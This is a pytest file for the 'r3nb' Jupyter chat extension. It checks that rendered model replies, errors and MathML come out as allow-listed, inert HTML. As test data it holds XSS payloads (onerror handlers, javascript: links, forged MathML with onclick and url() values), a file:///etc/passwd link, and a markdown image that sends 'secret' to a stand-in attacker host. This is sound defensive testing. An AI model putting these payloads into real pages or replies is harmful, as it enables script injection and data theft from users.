"""What ``%%chat`` puts on IOPub is inert: the renderer (r3nb/kernel/render.py) and the
reply view (r3nb/kernel/view.py) with every hostile corpus entry, checked by an allow-list
over the HTML as a browser would parse it. Fast: no kernel, no server, no browser (the
real-browser proof is tests/test_browser_chat_output.py)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.hostile_corpus import EVIL, HOSTILE, MATHML_ATTRIBUTES, MATHML_ELEMENTS, PWN

#: Every element the output may contain.
ALLOWED_TAGS = frozenset({
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr",
    "ul",
})  # fmt: skip
#: Every attribute it may carry (no on*, no style, no src, no id/name).
ALLOWED_ATTRS = frozenset({"href", "title", "class", "target", "rel", "align", "start"})
#: Inside a ``<math>`` (itself outside any): MathML from the allow-list, with values that
#: name no URL, script or style.
UNSAFE_MATH_VALUE = re.compile(r"[():;'\"<>\\]|url|script", re.IGNORECASE)
#: What the reply can write to make math: formulas are found only where these occur.
MATH_SYNTAX = re.compile(r"\$|\\\(|\\\[")
LINK_SCHEMES = ("http:", "https:", "mailto:")
HOSTILE_ERROR = f'<img src=x onerror="{PWN}"> failed: [x](javascript:{PWN}) ![l]({EVIL}/e.png)'


class Element:
    def __init__(self, tag: str, attrs: dict[str, str], in_math: bool = False) -> None:
        self.tag, self.attrs, self.in_math = tag, attrs, in_math


class Collect(HTMLParser):
    """Every start tag with its (entity-decoded) attributes, as a browser reads them, and
    whether it is inside a ``<math>``; the TeX each formula's annotation carries."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.text: list[str] = []
        self.annotations: list[str] = []
        self._math_depth = 0
        self._annotation: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_startendtag(tag, attrs)
        if tag == "math":
            self._math_depth += 1
        elif tag == "annotation":
            self._annotation = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {k: v or "" for k, v in attrs}
        self.elements.append(Element(tag, attributes, in_math=self._math_depth > 0))

    def handle_endtag(self, tag: str) -> None:
        if tag == "math":
            self._math_depth = max(0, self._math_depth - 1)
        elif tag == "annotation" and self._annotation is not None:
            self.annotations.append("".join(self._annotation))
            self._annotation = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._annotation is not None:
            self._annotation.append(data)

    def unknown_decl(self, data: str) -> None:
        self.elements.append(Element(f"<!{data}>", {}))

    def handle_comment(self, data: str) -> None:
        self.elements.append(Element("<!--comment-->", {}))


def parse(html: str) -> Collect:
    parser = Collect()
    parser.feed(html)
    parser.close()
    return parser


def violations(html: str) -> list[str]:
    """Everything in ``html`` that a trusted-output renderer could act on."""
    found = []
    for el in parse(html).elements:
        if el.tag == "math" and not el.in_math:  # a formula: r3nb's MathML, nothing else
            tags, attributes = frozenset({"math"}), frozenset({"display"})
        elif el.in_math:
            tags, attributes = MATHML_ELEMENTS - {"math"}, MATHML_ATTRIBUTES - {"display"}
        else:
            tags, attributes = ALLOWED_TAGS, ALLOWED_ATTRS
        if el.tag not in tags:
            found.append(f"element <{el.tag}>{' in <math>' if el.in_math else ''}")
        for name, value in el.attrs.items():
            if name not in attributes:
                found.append(f"attribute {name}={value!r} on <{el.tag}>")
            if el.tag == "annotation" and name == "encoding":
                if value != "application/x-tex":
                    found.append(f"annotation encoding {value!r}")
            elif (el.in_math or el.tag == "math") and UNSAFE_MATH_VALUE.search(value):
                found.append(f"math attribute {name}={value!r} on <{el.tag}>")
        href = "".join(ch for ch in el.attrs.get("href", "") if ord(ch) > 0x20).lower()
        if "href" in el.attrs and not href.startswith(LINK_SCHEMES):
            found.append(f"href {el.attrs['href']!r}")
        if el.tag == "a" and "href" in el.attrs and el.attrs.get("rel") != "noopener noreferrer":
            found.append(f"link without rel: {el.attrs}")
    return found


@pytest.fixture(scope="module")
def render() -> Any:
    from r3nb.kernel import render

    return render


# --- the renderer ------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "payload"), HOSTILE, ids=[name for name, _ in HOSTILE])
def test_every_hostile_reply_renders_to_allow_listed_html(
    render: Any, name: str, payload: str
) -> None:
    html = render.reply_html(payload, note="fake · complete")
    assert violations(html) == [], html
    assert "<img" not in html  # no image ever: a link naming its host, or text


def test_all_hostile_replies_together_and_cut_anywhere_stay_inert(render: Any) -> None:
    """Live updates render a prefix of the reply: a tag cut in half must stay text too.
    (Blocks apart from a blank line render independently, so each payload's prefixes.)"""
    text = "\n\n".join(payload for _, payload in HOSTILE)
    assert violations(render.reply_html(text)) == []
    for _, payload in HOSTILE:
        # Every cut of a short payload; of a long one (a 2,000-character formula), every
        # 7th and each of the last 100 (where its closing delimiter arrives).
        cuts = range(len(payload)) if len(payload) < 300 else [
            *range(0, len(payload) - 100, 7), *range(len(payload) - 100, len(payload))
        ]  # fmt: skip
        for end in cuts:
            html = render.markdown_html(payload[:end])
            assert violations(html) == [], (payload[:end], html)


def test_links_keep_only_http_https_and_mailto_targets(render: Any) -> None:
    html = render.markdown_html(
        "[ok](https://example.org/a?b=1) [mail](mailto:a@b.example) [rel](notes.ipynb) "
        "[js](javascript:alert(1)) [proto](//evil.example/x) [file](file:///etc/passwd)"
    )
    hrefs = [el.attrs["href"] for el in parse(html).elements if "href" in el.attrs]
    assert hrefs == ["https://example.org/a?b=1", "mailto:a@b.example"]
    assert "[js](javascript:alert(1))" in html  # left as the text the model wrote


def test_images_are_links_naming_their_host_never_loaded(render: Any) -> None:
    html = render.markdown_html(
        f"![chart]({EVIL}/leak?d=secret) ![local](plot.png) [![in link]({EVIL}/i.png)](https://ok.example)"
    )
    links = [el.attrs for el in parse(html).elements if el.tag == "a"]
    assert links[0]["href"] == f"{EVIL}/leak?d=secret"
    assert "[image from evil.example: chart]" in html
    assert "![local](plot.png)" in html  # relative: not a link target we allow
    assert [link["href"] for link in links] == [f"{EVIL}/leak?d=secret", "https://ok.example"]
    assert "[image from evil.example: in link]" in html  # no link nested in a link
    assert "<img" not in html


def test_normal_markdown_still_renders(render: Any) -> None:
    html = render.reply_html(
        "# Title\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n"
        "```python\nprint('<b>')\n```\n\n"
        "| region | revenue |\n|:-------|--------:|\n| north | 12 |\n\n"
        "> quoted\n\n[docs](https://docs.example/x) and $x^2$ typeset\n\n---\n",
        note="fake · complete · 3 → 4 tokens · cost unknown",
    )
    tags = [el.tag for el in parse(html).elements]
    for tag in ("h1", "strong", "em", "s", "code", "ul", "ol", "li", "pre", "table", "th",
                "td", "blockquote", "a", "hr"):  # fmt: skip
        assert tag in tags, (tag, html)
    assert '<code class="language-python">print(&#x27;&lt;b&gt;&#x27;)' in html or (
        "<code class=\"language-python\">print('&lt;b&gt;')" in html
    ), html
    assert '<ol start="3">' in html
    assert '<td align="right">12</td>' in html
    assert parse(html).annotations == ["x^2"]
    wrapper = parse(html).elements[0]
    assert wrapper.tag == "div"
    assert "mathjax_ignore" in wrapper.attrs["class"].split()  # MathJax typesets nothing
    assert "fake · complete · 3 → 4 tokens · cost unknown" in "".join(parse(html).text)
    assert violations(html) == []


def test_the_note_is_escaped_text_never_markup(render: Any) -> None:
    html = render.reply_html("", note=HOSTILE_ERROR, note_label="r3nb:")
    assert violations(html) == []
    assert [el.tag for el in parse(html).elements] == ["div", "p", "strong", "em"]
    assert HOSTILE_ERROR in "".join(parse(html).text)


def test_an_export_displays_as_escaped_text() -> None:
    from r3nb.kernel.api import Transcript

    text = "# t\n\n" + HOSTILE_REPLY
    transcript = Transcript(text)
    assert transcript == text
    assert isinstance(transcript, str)
    html = transcript._repr_html_()
    assert violations(html) == []
    assert [el.tag for el in parse(html).elements] == ["div", "pre"]
    assert "".join(parse(html).text) == text


# --- math ----------------------------------------------------------------------------------


def test_math_in_all_four_notations_is_typeset_into_mathml(render: Any) -> None:
    html = render.markdown_html(
        "Inline $x^2$, \\(a+b\\) and $$\\frac{a}{b}$$ in a line.\n\n"
        "$$\n\\sum_{i=1}^n i = \\frac{n(n+1)}{2}\n$$\n\n"
        "The energy:\n\\[\nE = mc^2\n\\]\nAfter."
    )
    doc = parse(html)
    assert doc.annotations == [
        "x^2", "a+b", "\\frac{a}{b}", "\\sum_{i=1}^n i = \\frac{n(n+1)}{2}", "E = mc^2",
    ]  # fmt: skip
    displays = [el.attrs["display"] for el in doc.elements if el.tag == "math"]
    assert displays == ["inline", "inline", "block", "block", "block"]
    tags = {el.tag for el in doc.elements}
    assert {"msup", "mfrac", "munderover", "mo", "mi", "mn"} <= tags, tags
    assert "<code" not in html
    assert violations(html) == []


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.",
        "Between $3-$4 a day",
        "$5, $6, or $7",
        "Pay $ 5 $ now",
        "a $x $ b",
        "Price: $20$30",
        "Escaped \\$x\\$ and \\$5 and $6",
        "US$5 or US$6",
        "$$ alone",
        "Use `$x^2$` or `\\(y\\)`.\n\n```\n$$z$$\n```\n\n    $w$ indented",
        "~~~tex\n\\[ q \\]\n~~~",
    ],
)
def test_currency_escapes_and_code_never_become_math(render: Any, text: str) -> None:
    html = render.markdown_html(text)
    assert "<math" not in html, html
    assert 'class="r3nb-math' not in html, html


def test_a_formula_that_cannot_be_typeset_shows_its_source_as_code(render: Any) -> None:
    long = "x+" * 1000 + "y"
    deep = "\\frac{" * 60 + "x" + "}{y}" * 60
    html = render.markdown_html(
        f"Broken $\\frac{{a}}{{$ here.\n\nLong ${long}$.\n\nDeep $${deep}$$"
    )
    assert "<math" not in html
    codes = re.findall(r'<code class="(r3nb-math[^"]*)">([^<]*)</code>', html)
    assert codes == [
        ("r3nb-math", "\\frac{a}{"),
        ("r3nb-math", long),
        ("r3nb-math r3nb-math-display", deep),
    ]
    assert violations(html) == []


@pytest.mark.parametrize(("name", "payload"), HOSTILE, ids=[name for name, _ in HOSTILE])
def test_math_elements_come_only_from_the_renderer(render: Any, name: str, payload: str) -> None:
    """Every <math> in the output is one r3nb typeset from a formula of the reply (its
    annotation carries that TeX); a reply without math syntax has none, and MathML the
    reply wrote itself is shown as text."""
    html = render.reply_html(payload)
    doc = parse(html)
    formulas = [el for el in doc.elements if el.tag == "math"]
    assert len(formulas) == len(doc.annotations)
    for tex in doc.annotations:
        assert tex in payload, (tex, payload)
    if not MATH_SYNTAX.search(payload):
        assert formulas == [], html
    if "<math" in payload:
        assert payload.split("</math>")[0] in "".join(doc.text)  # the raw tags, as text
    for el in doc.elements:  # bounded sizes (\rule, \kern, \hspace): at most 20em
        for attr in ("width", "height"):
            number = re.match(r"[+-]?[\d.]+", el.attrs.get(attr, ""))
            if el.in_math and number and el.attrs[attr].endswith("em"):
                assert abs(float(number.group())) <= 20, el.attrs
        assert not (el.in_math and el.tag == "mspace" and "cm" in el.attrs.get("width", ""))
    assert violations(html) == [], html


def test_hostile_formulas_are_typeset_without_their_links_and_html(render: Any) -> None:
    by_name = dict(HOSTILE)
    for name in ("math href", "math img", "math breakout", "math text html"):
        html = render.markdown_html(by_name[name])
        assert len(parse(html).annotations) == 1, (name, html)  # typeset, as characters
        assert "href" not in html.replace("\\href", ""), html
        assert "<img" not in html, html
    for name in ("math deep nesting", "math too long", "math macro loop", "math color url"):
        html = render.markdown_html(by_name[name])
        assert "<math" not in html, (name, html)
        assert 'class="r3nb-math' in html, (name, html)


def _forged(markup: str) -> Any:
    """What latex2mathml would return if it made ``markup`` (an Element tree)."""
    from xml.etree.ElementTree import fromstring

    return lambda tex, display="inline": fromstring(f"<math>{markup}</math>")


@pytest.mark.parametrize(
    "markup",
    [
        '<maction actiontype="statusline"><mi>x</mi><mtext>y</mtext></maction>',
        '<mtext><img src="x" onerror="alert(1)"/></mtext>',
        '<annotation-xml encoding="text/html"><a href="javascript:alert(1)">x</a></annotation-xml>',
        '<mglyph src="https://evil.example/g.png"/>',
        '<mspace width="url(https://evil.example/x)"/>',
        '<mi mathcolor="expression(alert(1))">x</mi>',
        "<math><mi>nested</mi></math>",
        '<svg><circle r="1"/></svg>',
    ],
)
def test_the_allow_list_rejects_what_latex2mathml_should_never_make(
    render: Any, monkeypatch: pytest.MonkeyPatch, markup: str
) -> None:
    monkeypatch.setattr(render, "convert_to_element", _forged(markup))
    render.math_html.cache_clear()
    try:
        html = render.markdown_html("$forged$")
    finally:
        render.math_html.cache_clear()
    assert html == '<p><code class="r3nb-math">forged</code></p>\n'


def test_the_allow_list_drops_attributes_outside_it(
    render: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    markup = (
        '<mrow href="javascript:alert(1)" style="color:red" class="jp-Dialog" id="x">'
        '<mi onclick="alert(1)" mathvariant="bold">x</mi>'
        '<mspace width="100000em" height="1em"/><mtext>&lt;img src=x&gt;</mtext></mrow>'
    )
    monkeypatch.setattr(render, "convert_to_element", _forged(markup))
    render.math_html.cache_clear()
    try:
        html = render.markdown_html("$forged$")
    finally:
        render.math_html.cache_clear()
    assert '<mrow><mi mathvariant="bold">x</mi><mspace height="1em"></mspace>' in html, html
    assert "<mtext>&lt;img src=x&gt;</mtext>" in html
    assert violations(html) == []


def test_each_formula_is_typeset_once_while_a_reply_is_rendered_again(
    render: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls = []
    convert = render.convert_to_element

    def counting(tex: str, display: str = "inline") -> Any:
        calls.append(tex)
        return convert(tex, display=display)

    monkeypatch.setattr(render, "convert_to_element", counting)
    render.math_html.cache_clear()
    text = "Twice $\\alpha_{once}$ and $\\alpha_{once}$, and $$\\beta_{once}$$."
    for _ in range(20):
        assert len(parse(render.markdown_html(text)).annotations) == 3
    render.math_html.cache_clear()
    assert sorted(calls) == ["\\alpha_{once}", "\\beta_{once}"]


# --- the view: every bundle %%chat puts on IOPub --------------------------------------------


class Shown(list[dict[str, str]]):
    """What ReplyView displays (the first bundle, then each update); ``updated`` is set
    at each update, so a stream can wait for a live render before it ends."""

    def __init__(self) -> None:
        super().__init__()
        self.updated = threading.Event()

    def update(self, bundle: dict[str, str], raw: bool = False) -> None:
        assert raw
        self.append(bundle)
        self.updated.set()


@pytest.fixture
def shown(monkeypatch: pytest.MonkeyPatch) -> Shown:
    import IPython.display

    bundles = Shown()

    def display(bundle: dict[str, str], raw: bool = False, display_id: bool = False) -> Shown:
        assert raw
        assert display_id
        bundles.append(bundle)
        return bundles  # the display handle: its update() appends

    monkeypatch.setattr(IPython.display, "display", display)
    return bundles


def _follow(
    shown: Shown, text: str, final: dict[str, Any] | None = None, error: str | None = None
) -> Any:
    """Stream ``text`` word by word through a real Follower into a ReplyView, then end
    with ``final`` (a "done" event) or ``error`` (the client's error) once it has been
    shown live at least once."""
    from r3nb.kernel.client import R3nbClientError
    from r3nb.kernel.live import Follower
    from r3nb.kernel.view import ReplyView

    def events() -> Iterator[Any]:
        yield "start", {"assistant_message": {"id": "m1", "model": "fake"}}
        offset = 0
        for piece in text.split(" "):
            yield "delta", {"message_id": "m1", "offset": offset, "text": piece + " "}
            offset += len(piece) + 1
        assert shown.updated.wait(10), "no live update"
        if error is not None:
            raise R3nbClientError(502, error)
        yield "done", {"message": final}

    view = ReplyView("fake")
    follower = Follower(events).start()
    view.follow(follower, client=None, interval=0.01)  # type: ignore[arg-type]
    return view


def _assert_inert(bundles: list[dict[str, str]]) -> None:
    assert len(bundles) >= 2
    for bundle in bundles:
        assert set(bundle) <= {"text/html", "text/plain"}, sorted(bundle)
        assert "text/html" in bundle
        assert violations(bundle["text/html"]) == [], bundle["text/html"]


HOSTILE_REPLY = "Here:\n\n" + "\n\n".join(payload for _, payload in HOSTILE) + "\n\n**End.**"


def test_chat_output_live_and_final_is_inert_html(shown: Shown) -> None:
    final = {"id": "m1", "model": "fake", "status": "complete", "content": HOSTILE_REPLY,
             "prompt_tokens": 3, "completion_tokens": 9, "cost": None}  # fmt: skip
    view = _follow(shown, HOSTILE_REPLY, final)
    _assert_inert(shown)
    assert view.done.is_set()
    last = shown[-1]
    assert "<strong>End.</strong>" in last["text/html"]
    note = "fake · complete · 3 → 9 tokens · cost unknown"
    assert last["text/plain"] == f"{HOSTILE_REPLY}\n\n{note}"
    live = shown[1:-1]
    assert live, "the reply must appear live"
    assert all(list(bundle) == ["text/html"] for bundle in live), "live: rendered HTML only"


def test_provider_error_in_the_footer_is_inert(shown: Shown) -> None:
    final = {"id": "m1", "model": "fake", "status": "error", "content": "partial <b>",
             "error": HOSTILE_ERROR, "cost": None}  # fmt: skip
    _follow(shown, "partial <b>", final)
    _assert_inert(shown)
    assert HOSTILE_ERROR in "".join(parse(shown[-1]["text/html"]).text)


def test_client_error_text_is_inert(shown: Shown) -> None:
    view = _follow(shown, "partial <svg onload=x>", error=HOSTILE_ERROR)
    _assert_inert(shown)
    assert view.error == HOSTILE_ERROR
    html = shown[-1]["text/html"]
    assert HOSTILE_ERROR in "".join(parse(html).text)
    assert shown[-1]["text/plain"].endswith(f"r3nb: {HOSTILE_ERROR}")


def test_loading_the_extension_does_not_import_the_renderer() -> None:
    code = (
        "import sys, json, r3nb\n"
        "class Shell:\n"
        "    def register_magics(self, m): pass\n"
        "r3nb.load_ipython_extension(Shell())\n"
        "print(json.dumps([m for m in ('markdown_it', 'r3nb.kernel.render',"
        " 'r3nb.kernel.view') if m in sys.modules]))\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True
    )
    assert json.loads(run.stdout.splitlines()[-1]) == []
